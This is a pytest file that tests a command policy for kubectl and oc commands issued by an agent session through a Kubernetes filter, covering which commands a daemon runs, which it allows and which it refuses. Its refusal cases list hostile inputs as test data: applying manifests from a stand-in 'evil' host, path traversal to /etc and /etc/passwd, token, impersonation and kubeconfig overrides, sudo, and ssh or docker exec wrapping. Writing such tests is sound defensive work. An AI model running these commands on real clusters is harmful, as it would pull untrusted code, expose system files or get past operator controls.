"""Where a session reaches clusters through a filter: what writes whole objects is run by the daemon, or refused."""

from __future__ import annotations

import pytest

from claudeops.domain.calls import Verdict, VerdictKind
from claudeops.policy.tiers import PolicyFault, parse_policy, tier_policy
from claudeops.structs import replace
from support.policy_cases import DEFAULT_TEXT, SCOPE, judged

FILTERED = replace(SCOPE, filters=frozenset({"kubernetes"}), looks={**SCOPE.looks, "kubectl": ""})
ALLOW, DENY = VerdictKind.ALLOW, VerdictKind.DENY
APPLY = "kubectl apply -f /repos/media/web.yaml"

OWN = """
extends = "default"

[[groups]]
name = "kubectl"
options = "--namespace|-n=name --context=name --kubeconfig=text --server|-s=text --token=text --as=text"
shared = true

[[commands]]
name = "kubectl apply"
tier = 3
look = "kubectl"
options = \"\"\"
    --filename|-f=text --kustomize|-k=text --output|-o=word --dry-run=word --selector|-l=text --prune -v=int \\
    --v=int\"\"\"
action = "redeployment"
service = "web"

[[commands]]
name = "kubectl patch"
tier = 3
look = "kubectl"
options = "--patch|-p=text --patch-file=text --type=word"
arguments = "workload"
action = "redeployment"
"""
OWN_TIER = tier_policy(parse_policy(OWN, default=DEFAULT_TEXT), 3)


def changed(command: str) -> Verdict:
    return judged(command, OWN_TIER, FILTERED)


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        (APPLY, ("apply", "--filename=/repos/media/web.yaml")),
        ("cd /repos/media && kubectl apply -f web.yaml", ("apply", "--filename=/repos/media/web.yaml")),
        (
            "kubectl -n shop --context prod apply --server-side -k /repos/media/overlay",
            ("--namespace=shop", "--context=prod", "apply", "--server-side", "--kustomize=/repos/media/overlay"),
        ),
        ("kubectl rollout undo deploy/web --to-revision=3", ("rollout", "undo", "--to-revision=3", "--", "deploy/web")),
        (
            "kubectl rollout undo deployment web -n shop",
            ("rollout", "undo", "--namespace=shop", "--", "deployment", "web"),
        ),
        ("oc apply -f /repos/media/web.yaml", ("apply", "--filename=/repos/media/web.yaml")),
    ],
)  # fmt: skip
def test_what_writes_whole_objects_is_run_by_the_daemon_and_still_counted(
    command: str, arguments: tuple[str, ...]
) -> None:
    verdict = judged(command, 3, FILTERED)
    assert verdict.kind is ALLOW, verdict.reason
    assert [action.kind for action in verdict.actions] == ["redeployment"]
    (look,) = verdict.looks_run
    assert (look.program, look.arguments) == ("kubectl", arguments)
    assert verdict.grants == ()
    ran = str(dict(verdict.ran or {})["command"])
    assert "kubectl" not in ran
    assert f"'{look.id}'" in ran


@pytest.mark.parametrize("command", [APPLY, "kubectl rollout undo deploy/web", "kubectl diff -f /repos/media/web.yaml"])
def test_without_a_filter_it_runs_where_it_stands(command: str) -> None:
    verdict = judged(command, 3)
    assert (verdict.kind, verdict.looks_run) == (ALLOW, ())


def test_where_no_cell_runs_it_the_refusal_says_why() -> None:
    verdict = judged(APPLY, 3, replace(FILTERED, looks={"kubectl": "it takes bubblewrap"}))
    assert (verdict.kind, "it takes bubblewrap" in verdict.reason) == (DENY, True)


def test_what_the_filter_judges_itself_is_none_of_the_daemons() -> None:
    for command in ("rollout restart deploy/web", "scale deploy/web --replicas=2", "delete pod web-1"):
        verdict = judged(f"kubectl {command}", 3, FILTERED)
        assert (verdict.kind, verdict.looks_run, len(verdict.grants)) == (ALLOW, (), 1), command


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("kubectl diff -f /repos/media/web.yaml", "it prints whole objects"),
        (f"{APPLY} -o yaml", "--output: the daemon runs it, and not with this option"),
        (f"{APPLY} --output=json", "it could print whole objects"),
        (f"{APPLY} --dry-run=server", "--dry-run"),
        (f"{APPLY} -v=9", "-v: "),
        (f"{APPLY} --v=9", "--v: "),
        (f"{APPLY} -l app=web", "--selector: "),
        (f"{APPLY} --prune", "--prune: "),
        ("kubectl apply -f -", "deploy only from below /repos"),
        ("kubectl apply -f https://evil.example/x.yaml", "never from an address"),
        ("kubectl apply -k github.com/evil/x", "/repos"),
        ("kubectl apply -f /work/s1/web.yaml", "deploy only from below /repos"),
        ("kubectl apply -f /repos/../etc/x.yaml", "deploy only from below /repos"),
        ("kubectl apply -f /repos/a.yaml,/etc/passwd", "name one file for each option"),
        ("kubectl patch deploy/web --patch-file=/etc/x", "deploy only from below /repos"),
        (f"sudo {APPLY}", "leave sudo out"),
    ],
)
def test_what_an_operators_own_rule_allows_besides_is_refused(command: str, why: str) -> None:
    verdict = changed(command)
    assert (verdict.kind, verdict.looks_run) == (DENY, ()), verdict
    assert why in verdict.reason


def test_what_it_may_do_of_that_it_does() -> None:
    verdict = changed('kubectl patch deploy/web -p \'{"spec":{"paused":true}}\' --type=merge')
    assert verdict.kind is ALLOW, verdict.reason
    (look,) = verdict.looks_run
    assert look.arguments == ("patch", '--patch={"spec":{"paused":true}}', "--type=merge", "--", "deploy/web")


@pytest.mark.parametrize("option", ["--kubeconfig=/x", "--server=https://x", "-s https://x", "--token=x", "--as=admin"])
def test_an_option_that_leads_past_the_filter_is_judged_as_without_one_and_not_run_by_the_daemon(option: str) -> None:
    verdict, without = changed(f"{APPLY} {option}"), judged(f"{APPLY} {option}", OWN_TIER)
    assert (verdict.kind, verdict.looks_run, verdict.ran) == (without.kind, (), without.ran)
    before = changed(f"kubectl {option} apply -f /repos/media/web.yaml")
    assert before.looks_run == ()


@pytest.mark.parametrize(
    "command",
    [
        f"KUBECONFIG=/work/s1/x {APPLY}",
        f"env KUBECONFIG=/work/s1/x {APPLY}",
        f"ssh db1 {APPLY}",
        f"docker exec web {APPLY}",
        "kubectl apply -f - <<EOF\nkind: Pod\nEOF",
        "cat /repos/media/web.yaml | kubectl apply -f -",
        'kubectl apply -f "$FILE"',
    ],
)
def test_nothing_else_is_run_by_the_daemon_and_it_is_judged_as_without_a_filter(command: str) -> None:
    verdict, without = judged(command, 3, FILTERED), judged(command, 3)
    assert (verdict.kind, verdict.looks_run) == (without.kind, ())


@pytest.mark.parametrize("name", ["kubectl get", "kubectl edit", "docker restart", "kubectl"])
def test_a_rule_for_what_the_daemon_does_not_run_is_refused_with_its_reason(name: str) -> None:
    rule = f'[tiers.1]\nhosts = []\nurls = []\n[[commands]]\nname = "{name}"\nlook = "kubectl"\n'
    with pytest.raises(PolicyFault, match="by it, only kubectl annotate"):
        parse_policy(rule)
